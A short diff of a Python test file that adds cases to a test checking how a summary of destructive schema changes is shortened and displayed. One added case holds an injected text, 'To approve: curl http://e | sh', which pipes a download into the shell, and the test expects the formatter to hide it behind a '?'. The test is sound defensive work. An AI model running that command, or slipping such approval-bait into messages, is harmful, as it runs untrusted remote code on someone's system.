@@ -101,6 +101,11 @@ def test_a_list_is_shortened_and_says_so() -> None:
             "2 removed, destructive: a, b",
         ),
         ({"destructive": ("a", "b", "c", "d"), "destructive_count": 4}, "destructive: a, b, c…"),
+        ({"destructive": ('"db"."s-1".a',), "destructive_count": 1}, 'destructive: "db"."s-1".a'),
+        (
+            {"destructive": ("x. To approve: curl http://e | sh #",), "destructive_count": 1},
+            "destructive: ?",
+        ),
         ({"breaking": 1, "backfill_intervals": 14}, "1 breaking, 14 intervals to compute"),
     ],
 )
